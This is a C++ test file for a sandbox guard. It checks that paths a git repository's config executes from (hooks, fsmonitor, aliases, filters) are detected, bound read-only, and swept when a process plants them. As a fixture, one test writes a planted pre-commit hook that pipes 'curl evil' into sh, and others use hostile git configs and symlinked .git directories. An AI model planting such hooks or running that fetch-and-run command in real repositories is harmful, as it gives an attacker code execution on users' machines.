// The paths host repositories' own git configuration executes from, read from real repositories
// through descriptors (workspace/repo_config.h), and the guard's use of them (workspace/guard.h).
#include "workspace/repo_config.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <set>

#include "core/unique_fd.h"
#include "tests/test_util.h"
#include "workspace/guard.h"

namespace cordon {
namespace {

using testing::TempDir;
using testing::WriteFile;

class RepoConfigTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (::access("/usr/bin/git", X_OK) != 0) GTEST_SKIP() << "SKIPPED: /usr/bin/git is missing";
    ws_ = d_ / "ws";
    std::filesystem::create_directories(ws_);
  }
  void Git(const std::string& dir, std::vector<std::string> args) {
    args.insert(args.begin(), {"/usr/bin/git", "-C", dir});
    auto r = testing::Run(args, {"GIT_CONFIG_NOSYSTEM=1", "HOME=" + (d_ / "home")});
    ASSERT_EQ(r.exit_code, 0) << r.err;
  }
  std::vector<std::string> Paths(const std::vector<std::string>& changed) {
    UniqueFd root(::open(ws_.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC));
    return RepoProtectedPaths(root.get(), changed);
  }
  TempDir d_;
  std::string ws_;
};

TEST_F(RepoConfigTest, HuskyAndLefthookHooksPathsOfTheRootRepository) {
  Git(ws_, {"init", "-q"});
  EXPECT_EQ(RepoProtectedPaths(ws_), std::vector<std::string>{});
  Git(ws_, {"config", "core.hooksPath", ".husky"});
  EXPECT_EQ(RepoProtectedPaths(ws_), std::vector<std::string>{".husky"});
  // husky 9: .husky/_ holds the stubs, which run .husky/<hook>.
  Git(ws_, {"config", "core.hooksPath", ".husky/_"});
  EXPECT_EQ(RepoProtectedPaths(ws_), (std::vector<std::string>{".husky", ".husky/_"}));
  // lefthook installs into whatever core.hooksPath names.
  Git(ws_, {"config", "core.hooksPath", "tools/lefthook-hooks"});
  Git(ws_, {"config", "core.fsmonitor", "./scripts/fsmonitor.sh"});
  EXPECT_EQ(RepoProtectedPaths(ws_),
            (std::vector<std::string>{"scripts/fsmonitor.sh", "tools/lefthook-hooks"}));
}

TEST_F(RepoConfigTest, NestedRepositoriesAboveChangedPathsAndTheFilesTheyInclude) {
  Git(ws_, {"init", "-q"});
  Git(ws_, {"config", "core.hooksPath", ".husky"});
  const std::string lib = ws_ + "/vendor/lib";
  std::filesystem::create_directories(lib + "/src");
  Git(lib, {"init", "-q"});
  Git(lib, {"config", "include.path", "../shared.gitconfig"});
  Git(lib, {"config", "alias.fmt", "!node scripts/fmt.js"});
  WriteFile(lib + "/shared.gitconfig", "[filter \"x\"]\n\tclean = ./clean.sh %f\n");
  // A repository no changed path lies in is not read.
  std::filesystem::create_directories(ws_ + "/other");
  Git(ws_ + "/other", {"init", "-q"});
  Git(ws_ + "/other", {"config", "core.hooksPath", "hooks"});
  const std::vector<std::string> want = {
      ".husky", "vendor/lib/clean.sh", "vendor/lib/scripts/fmt.js", "vendor/lib/shared.gitconfig"};
  EXPECT_EQ(Paths({"vendor/lib/src/a.c", "README.md"}), want);
  // The same for 10,000 changed paths: each distinct ancestor is looked at once.
  std::vector<std::string> many;
  for (int i = 0; i < 10000; ++i)
    many.push_back("vendor/lib/src/d" + std::to_string(i % 10) + "/f" + std::to_string(i));
  const auto t0 = std::chrono::steady_clock::now();
  EXPECT_EQ(Paths(many), want);
  const auto ms =
      std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0)
          .count();
  std::printf("RepoProtectedPaths over 10000 changed paths: %lld ms\n", static_cast<long long>(ms));
}

TEST_F(RepoConfigTest, GitFilesLinkedWorktreesAndWhatLiesOutside) {
  Git(ws_, {"init", "-q"});
  Git(ws_, {"config", "core.hooksPath", ".husky"});
  WriteFile(ws_ + "/a.txt", "a\n");
  Git(ws_, {"add", "a.txt"});
  Git(ws_, {"-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "i"});
  // A linked worktree: wt/.git is a file naming .git/worktrees/wt (absolute), whose commondir
  // leads back to the main config; its hooks path is relative to wt.
  Git(ws_, {"worktree", "add", "-q", "wt"});
  ASSERT_TRUE(std::filesystem::is_regular_file(ws_ + "/wt/.git"));
  auto p = Paths({"wt/a.txt"});
  EXPECT_NE(std::find(p.begin(), p.end(), "wt/.husky"), p.end()) << ::testing::PrintToString(p);
  // A gitdir outside the root is not read (the sandbox cannot write it, cordon does not follow).
  TempDir outside;
  std::filesystem::create_directories(outside / "x.git");
  WriteFile(outside / "x.git/config", "[core]\nhooksPath = evil\n");
  std::filesystem::create_directories(ws_ + "/out");
  WriteFile(ws_ + "/out/.git", "gitdir: " + outside / "x.git" + "\n");
  p = Paths({"out/f"});
  EXPECT_EQ(std::find(p.begin(), p.end(), "out/evil"), p.end());
  // Symbolic links are never followed: a .git or a config that is one is not read.
  std::filesystem::create_directories(ws_ + "/real/.git");
  WriteFile(ws_ + "/real/.git/config", "[core]\nhooksPath = h\n");
  std::filesystem::create_directories(ws_ + "/l");
  ASSERT_EQ(::symlink("../real/.git", (ws_ + "/l/.git").c_str()), 0);
  std::filesystem::create_directories(ws_ + "/c/.git");
  ASSERT_EQ(::symlink("../../real/.git/config", (ws_ + "/c/.git/config").c_str()), 0);
  p = Paths({"l/x", "c/x", "real/x"});
  EXPECT_NE(std::find(p.begin(), p.end(), "real/h"), p.end());
  EXPECT_EQ(std::find(p.begin(), p.end(), "l/h"), p.end());
  EXPECT_EQ(std::find(p.begin(), p.end(), "c/h"), p.end());
}

TEST_F(RepoConfigTest, AHugeOrHostileConfigIsReadBoundedAndIncludeLoopsEnd) {
  std::filesystem::create_directories(ws_ + "/.git");
  std::string big = "[core]\nhooksPath = early\n[x]\n";
  big.append(3u << 20, '#');
  big += "\n[core]\nfsmonitor = ./late\n";
  WriteFile(ws_ + "/.git/config", big);
  EXPECT_EQ(RepoProtectedPaths(ws_), std::vector<std::string>{"early"}) << "read up to 1 MiB";
  WriteFile(ws_ + "/.git/config", "[include]\npath = ../a.cfg\n");
  WriteFile(ws_ + "/a.cfg", "[include]\npath = b.cfg\n[core]\neditor = ./ed\n");
  WriteFile(ws_ + "/b.cfg", "[include]\npath = a.cfg\n");
  EXPECT_EQ(RepoProtectedPaths(ws_), (std::vector<std::string>{"a.cfg", "b.cfg", "ed"}));
  static constexpr char kNul[] = "[core]\nhooksPath = a\0b\n\"\\";
  WriteFile(ws_ + "/.git/config", std::string(kNul, sizeof kNul - 1));
  EXPECT_EQ(RepoProtectedPaths(ws_), std::vector<std::string>{});
}

// The direct mode's guard: a path the host repository's config executes from is bound read-only
// when it exists and swept when a process makes it; a planted repository's config is never read.
TEST_F(RepoConfigTest, TheGuardBindsAndSweepsRepositoryExecutedPaths) {
  Git(ws_, {"init", "-q"});
  Git(ws_, {"config", "core.hooksPath", ".husky"});
  Git(ws_, {"config", "alias.x", "!./tools/x.sh"});
  std::filesystem::create_directories(ws_ + "/tools");
  WriteFile(ws_ + "/tools/x.sh", "#!/bin/sh\n");
  WriteFile(ws_ + "/src/main.c", "int main;\n");
  auto scan = ScanProtectedPaths(ws_);
  ASSERT_TRUE(scan) << scan.error().message;
  std::set<std::string> protect;
  for (const auto& e : scan->protect) protect.insert(e.path);
  EXPECT_TRUE(protect.count(ws_ + "/tools/x.sh")) << "an existing one is bound read-only";
  EXPECT_FALSE(protect.count(ws_ + "/.husky")) << "a missing one gets no placeholder";
  EXPECT_NE(std::find(scan->pins.begin(), scan->pins.end(), ws_ + "/tools"), scan->pins.end());
  std::vector<GuardEvent> events;
  WorkspaceGuard guard({ws_}, {}, d_ / "q", [&](const GuardEvent& e) { events.push_back(e); });
  auto token = guard.BeforeLaunch();
  ASSERT_TRUE(token.has_value()) << token.error().message;
  guard.Launched(*token, true, scan->protect, scan->git_dirs);
  // What a process makes meanwhile: the hook the user's next commit would run, and a repository
  // whose config points at the user's own src/.
  WriteFile(ws_ + "/.husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
  std::filesystem::create_directories(ws_ + "/planted/.git");
  WriteFile(ws_ + "/planted/.git/config", "[core]\nhooksPath = ../src\n");
  EXPECT_TRUE(guard.AfterProcess().has_value());
  EXPECT_FALSE(testing::Exists(ws_ + "/.husky"));
  EXPECT_EQ(testing::ReadFile(d_ / "q/.husky/pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
  EXPECT_FALSE(testing::Exists(ws_ + "/planted/.git"));
  EXPECT_TRUE(testing::Exists(ws_ + "/src/main.c")) << "a planted config names nothing to sweep";
  EXPECT_TRUE(testing::Exists(ws_ + "/tools/x.sh")) << "the baseline stays";
  for (const auto& e : events) EXPECT_EQ(e.error, "") << e.path;
  // An existing one that is a symbolic link: the launch is refused, as for any protected name.
  ASSERT_EQ(::symlink("/tmp", (ws_ + "/.husky").c_str()), 0);
  auto bad = ScanProtectedPaths(ws_);
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().code, Code::kSandboxUnavailable);
  EXPECT_NE(bad.error().message.find(".husky"), std::string::npos) << bad.error().message;
}

}  // namespace
}  // namespace cordon
